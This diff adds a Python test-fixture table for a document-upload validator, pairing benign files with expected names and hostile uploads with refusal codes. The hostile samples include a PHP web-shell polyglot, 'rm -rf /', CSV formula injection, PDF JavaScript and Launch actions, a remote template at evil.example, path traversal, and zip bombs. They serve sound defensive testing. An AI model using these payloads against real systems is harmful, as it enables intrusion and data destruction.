@@ -1,0 +1,242 @@
+"""The table of uploads that people, and those who mean harm, send: name, content (large ones are made when they are
+needed), and the answer."""
+
+import zipfile
+
+from tests.documents.made import (
+    BMP,
+    CSV,
+    EXE,
+    GIF,
+    HEIC,
+    HTML,
+    JPEG,
+    MAIL,
+    PDF,
+    RTF,
+    SVG,
+    TIFF,
+    archive,
+    compound,
+    encrypted,
+    linked,
+    lying,
+    open_document,
+    open_xml,
+    packed_pdf,
+    pdf_with,
+    png,
+    sheet,
+    workbook,
+)
+
+WORD, EXCEL = {"WordDocument": b"\xec\xa5" + b"\0" * 20}, {"Workbook": workbook(sheet(0))}
+# The directory's sector, the ninth, is followed by itself.
+LOOP = compound(WORD).replace(b"\xfe\xff\xff\xff\xfd\xff\xff\xff", b"\x08\x00\x00\x00\xfd\xff\xff\xff")
+JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
+
+TAKEN = (
+    # What people call it, what it is, and what it is called then.
+    ("statement.pdf", PDF, "statement.pdf"),
+    ("Statement July.PDF", PDF, "Statement July.PDF"),
+    ("letter.docx", open_xml(), "letter.docx"),
+    ("ledger.xlsx", open_xml("spreadsheetml.sheet.main+xml"), "ledger.xlsx"),
+    ("slides.pptx", open_xml("presentationml.presentation.main+xml"), "slides.pptx"),
+    ("letter.odt", open_document(), "letter.odt"),
+    ("ledger.ods", open_document(kind="spreadsheet"), "ledger.ods"),
+    ("old.doc", compound(WORD), "old.doc"),
+    ("old.xls", compound(EXCEL), "old.xls"),
+    ("old.ppt", compound({"PowerPoint Document": b"\x0f\x00"}), "old.ppt"),
+    ("mail.msg", compound({"__properties_version1.0": b"\0"}), "mail.msg"),
+    ("mail.eml", MAIL, "mail.eml"),
+    ("note.txt", "Déjà vu".encode(), "note.txt"),
+    ("wide.csv", b"\xff\xfe" + "Datum;Betrag".encode("utf-16-le"), "wide.csv"),
+    ("table.csv", CSV, "table.csv"),
+    ("letter.rtf", RTF, "letter.rtf"),
+    ("photo.jpeg", JPEG, "photo.jpeg"),
+    ("scan.tiff", TIFF, "scan.tiff"),
+    ("photo.heic", HEIC, "photo.heic"),
+    ("screen.png", png(), "screen.png"),
+    ("old.gif", GIF, "old.gif"),
+    ("old.bmp", BMP, "old.bmp"),
+    ("papers.zip", archive({"a.pdf": PDF, "b/c.jpg": JPEG, "__MACOSX/._a.pdf": b"\0\5"}), "papers.zip"),
+    # Pictures that telephones name wrongly get the right ending.
+    ("photo.png", JPEG, "photo.jpg"),
+    # Names that are made harmless.
+    ("../../etc/passwd.pdf", PDF, "passwd.pdf"),
+    ("C:\\Users\\me\\tax.pdf", PDF, "tax.pdf"),
+    ("a\x00b\x1f\u200bc.pdf", PDF, "abc.pdf"),
+    ("CON.pdf", PDF, "_CON.pdf"),
+    ("com1.statement.pdf", PDF, "_com1.statement.pdf"),
+    ("tax: <2026>|*?.pdf", PDF, "tax_ _2026____.pdf"),
+    ("  .pdf", PDF, "document.pdf"),
+    ("tax.pdf. . ", PDF, "tax.pdf"),
+    (f"{'x' * 500}.pdf", PDF, f"{'x' * 146}.pdf"),
+    ("statement of bank.com.pdf", PDF, "statement of bank.com.pdf"),
+)
+
+REFUSED = {
+    # Nothing, too much, cut off.
+    "an empty file": ("empty.pdf", b"", "empty"),
+    "one byte too many": ("big.txt", lambda: b"a" * 10_000_001, "too_large"),
+    "a PDF cut off": ("cut.pdf", PDF[:60], "cut_off"),
+    "a JPEG cut off": ("cut.jpg", JPEG[:-2], "cut_off"),
+    "a PNG cut off": ("cut.png", png()[:-8], "cut_off"),
+    "a GIF cut off": ("cut.gif", GIF[:-1], "cut_off"),
+    "a ZIP cut off": ("cut.zip", archive({"a.pdf": PDF})[:-30], "cut_off"),
+    "a Word file cut off": ("cut.docx", open_xml()[:100], "cut_off"),
+    "an old Word file cut off": ("cut.doc", compound(WORD)[:600], "cut_off"),
+    "an OLE file in circles": ("loop.doc", LOOP, "cut_off"),
+    "an empty ZIP": ("none.zip", archive({}), "wrong_content"),
+    "a ZIP of folders": ("folders.zip", archive({"a/": b""}), "empty"),
+    # Names.
+    "a program": ("setup.exe", EXE, "not_allowed"),
+    "a script": ("macro.vbs", b"MsgBox 1", "not_allowed"),
+    "a web page": ("page.html", HTML, "not_allowed"),
+    "a drawing with code": ("logo.svg", SVG, "not_allowed"),
+    "XML": ("data.xml", b"<?xml version='1.0'?><a/>", "not_allowed"),
+    "no ending": ("statement", PDF, "not_allowed"),
+    "an unknown ending": ("book.mobi", PDF, "not_allowed"),
+    "a second ending": ("invoice.pdf.exe", PDF, "not_allowed"),
+    "a hidden ending": ("invoice.exe.pdf", PDF, "two_endings"),
+    "an ending with spaces after": ("invoice.pdf                .exe", EXE, "not_allowed"),
+    "writing turned round": ("tax\u202efdp.exe", EXE, "name_turned"),
+    "writing isolated": ("tax\u2066gpj.pdf", PDF, "name_turned"),
+    "a stream of Windows": ("tax.pdf::$DATA", PDF, "not_allowed"),
+    # Bytes that are not what the name says.
+    "a program called PDF": ("tax.pdf", EXE, "wrong_content"),
+    "a program of Linux called text": ("tax.txt", b"\x7fELF" + b"\0" * 60, "wrong_content"),
+    "a shell script called text": ("run.txt", b"#!/bin/sh\nrm -rf /", "wrong_content"),
+    "a web page called PDF": ("tax.pdf", HTML, "wrong_content"),
+    "a web page called text": ("tax.txt", b"\xef\xbb\xbf  <HTML><body>", "wrong_content"),
+    "a drawing called JPEG": ("logo.jpg", SVG, "wrong_content"),
+    "a web page in two bytes a letter": (
+        "t.txt",
+        b"\xff\xfe" + HTML.decode().encode("utf-16-le"),
+        "wrong_content",
+    ),
+    "a shortcut called Word": ("letter.docx", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 70, "wrong_content"),
+    "a RAR called ZIP": ("papers.zip", b"Rar!\x1a\x07\x00" + b"\0" * 60, "wrong_content"),
+    "bytes called CSV": ("table.csv", b"a,b\x00\x01\x02", "wrong_content"),
+    "bytes late in a text": ("table.csv", b"a,b\n" * 2000 + b"\x00", "wrong_content"),
+    "a PDF called Word": ("letter.docx", PDF, "wrong_ending"),
+    "a Word file called Excel": ("ledger.xlsx", open_xml(), "wrong_ending"),
+    "a ZIP called Word": ("letter.docx", archive({"a.pdf": PDF}), "wrong_ending"),
+    "a picture called PDF": ("scan.pdf", JPEG, "wrong_ending"),
+    "text called PDF": ("tax.pdf", b"Just some words.", "wrong_ending"),
+    "an Excel file called message": ("mail.msg", compound(EXCEL), "wrong_ending"),
+    "text called e-mail": ("mail.eml", b"Just some words.", "wrong_ending"),
+    "an OLE file of nothing known": ("old.doc", compound({"Payload": b"x"}), "wrong_content"),
+    # Two things at once.
+    "a JPEG and a ZIP": ("photo.jpg", JPEG + archive({"a.pdf": PDF}), "two_things"),
+    "a GIF and a web page": ("photo.gif", GIF[:-1] + HTML + b"\x3b", "two_things"),
+    "a PNG and a PHP script": (
+        "photo.png",
+        png()[:-8] + b"<?php system($_GET[0]);" + png()[-8:],
+        "two_things",
+    ),
+    "a ZIP behind something": ("a.zip", archive({"a.pdf": PDF}) + archive({"b.pdf": PDF}), "two_things"),
+    # Active content.
+    "a PDF with a script": ("form.pdf", pdf_with(JAVASCRIPT), "active_content"),
+    "a PDF with a script, written otherwise": (
+        "form.pdf",
+        pdf_with(b"<</S/J#61vaScr#69pt /JS(1)>>"),
+        "active_content",
+    ),
+    "a PDF that starts a program": ("form.pdf", pdf_with(b"<</S/Launch/F(cmd.exe)>>"), "active_content"),
+    "a PDF with a file inside": ("form.pdf", pdf_with(b"<</Type/EmbeddedFile>>"), "active_content"),
+    "a PDF that sends data": ("form.pdf", pdf_with(b"<</S/SubmitForm/F(http://x)>>"), "active_content"),
+    "a PDF form with code": ("form.pdf", pdf_with(b"<</XFA 7 0 R>>"), "active_content"),
+    "a PDF with a packed script": ("form.pdf", packed_pdf(b"1 0 " + JAVASCRIPT), "active_content"),
+    "a PDF with a script far inside": (
+        "form.pdf",
+        packed_pdf(b" " * 300_000 + JAVASCRIPT),
+        "active_content",
+    ),
+    "a PDF packed twice": (
+        "form.pdf",
+        packed_pdf(b"x", b"/Filter[/ASCIIHexDecode/FlateDecode]"),
+        "unreadable",
+    ),
+    "a PDF that is protected": ("locked.pdf", PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), "protected"),
+    "RTF with a program": ("a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "active_content"),
+    "a CSV that starts a program": ("a.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "active_content"),
+    "an e-mail with a program": (
+        "mail.eml",
+        MAIL.replace(b"\r\n\r\n", b'\r\nContent-Type: x/y;\r\n name="bill.exe"\r\n\r\n'),
+        "active_content",
+    ),
+    "a message with a program": (
+        "mail.msg",
+        compound({"__substg1.0_3707001F": "bill.js".encode("utf-16-le"), "__properties_version1.0": b"\0"}),
+        "active_content",
+    ),
+    "Word with macros": ("letter.docx", open_xml(more={"word/vbaProject.bin": b"x"}), "macros"),
+    "Word with macros by its name": ("letter.docm", open_xml(), "not_allowed"),
+    "Word with macros by its type": ("a.docx", open_xml("document.macroEnabled.main+xml"), "macros"),
+    "Excel with old macros": (
+        "a.xlsx",
+        open_xml("spreadsheetml.sheet.main+xml", {"xl/macrosheets/sheet1.xml": b"<x/>"}),
+        "macros",
+    ),
+    "Word with a control": ("a.docx", open_xml(more={"word/activeX/activeX1.bin": b"x"}), "active_content"),
+    "Word with a far template": (
+        "a.docx",
+        open_xml(
+            more={
+                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
+                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+            }
+        ),
+        "active_content",
+    ),
+    "OpenDocument with macros": ("a.odt", open_document({"Basic/Standard/M.xml": b"<x/>"}), "macros"),
+    "OpenDocument protected": (
+        "a.odt",
+        open_document({"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
+        "protected",
+    ),
+    "old Word with macros": ("old.doc", compound({**WORD, "_VBA_PROJECT": b"x"}), "macros"),
+    "old Word protected": (
+        "old.doc",
+        compound({"WordDocument": b"\xec\xa5" + b"\0" * 8 + b"\x00\x01"}),
+        "protected",
+    ),
+    "old Excel with a sheet of macros": ("old.xls", compound({"Workbook": workbook(sheet(1))}), "macros"),
+    "old Excel protected": ("old.xls", compound({"Workbook": workbook((0x2F, b"\0\0"))}), "protected"),
+    "old PowerPoint with macros": (
+        "old.ppt",
+        compound({"PowerPoint Document": b"\x1f\x00\xff\x03\x14\x00\x00\x00"}),
+        "macros",
+    ),
+    "new Office protected": ("a.docx", compound({"EncryptedPackage": b"x"}), "protected"),
+    # Archives.
+    "a ZIP that is protected": ("a.zip", encrypted(), "protected"),
+    "a ZIP in a ZIP": ("a.zip", archive({"b.zip": archive({"c.pdf": PDF})}), "nested"),
+    "a ZIP in a ZIP, called PDF": ("a.zip", archive({"b.pdf": archive({"c.pdf": PDF})}), "nested"),
+    "a ZIP with a program": ("a.zip", archive({"a.pdf": PDF, "b.exe": EXE}), "not_allowed"),
+    "a ZIP with a program called PDF": ("a.zip", archive({"a.pdf": EXE}), "wrong_content"),
+    "a ZIP with an active PDF": ("a.zip", archive({"a.pdf": pdf_with(JAVASCRIPT)}), "active_content"),
+    "a ZIP that leaves its folder": ("a.zip", archive({"../../a.pdf": PDF}), "path"),
+    "a ZIP that goes to the root": ("a.zip", archive({"/etc/a.pdf": PDF}), "path"),
+    "a ZIP that goes to a drive": ("a.zip", archive({"C:/a.pdf": PDF}), "path"),
+    "a ZIP with a link": ("a.zip", linked(), "path"),
+    "a ZIP with a turned name": ("a.zip", archive({"a\u202efdp.exe": EXE}), "name_turned"),
+    "a ZIP of too many files": ("a.zip", archive({f"{n}.txt": b"a" for n in range(201)}), "bomb"),
+    "a ZIP that unpacks to 60 MB": (
+        "a.zip",
+        lambda: archive({f"{n}.txt": b"a" * 10_000_000 for n in range(6)}),
+        "bomb",
+    ),
+    "a ZIP that lies about its size": ("a.zip", lying, "cut_off"),
+    "a ZIP of a huge file": ("a.zip", lambda: archive({"a.txt": b"a" * 11_000_000}), "bomb"),
+    "a ZIP packed unusually": ("a.zip", archive({"a.pdf": PDF}, zipfile.ZIP_LZMA), "unreadable"),
+    "a Word file that unpacks to 210 MB": (
+        "a.docx",
+        lambda: open_xml(more={"word/a.xml": b"a" * 210_000_000}),
+        "bomb",
+    ),
+    "a PDF that unpacks to 70 MB": ("a.pdf", lambda: packed_pdf(b"a" * 70_000_000), "bomb"),
+    # Pictures.
+    "a picture of 100,000 dots a side": ("a.png", png(100_000, 100_000), "bomb"),
+}
